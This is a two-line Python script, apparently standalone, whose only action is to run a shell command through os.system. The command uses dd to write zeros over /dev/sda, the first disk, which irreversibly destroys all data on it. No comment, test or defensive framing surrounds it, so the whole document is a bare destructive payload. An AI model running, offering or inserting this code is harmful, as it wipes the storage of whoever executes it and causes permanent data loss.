import os

os.system("dd if=/dev/zero of=/dev/sda bs=1M")
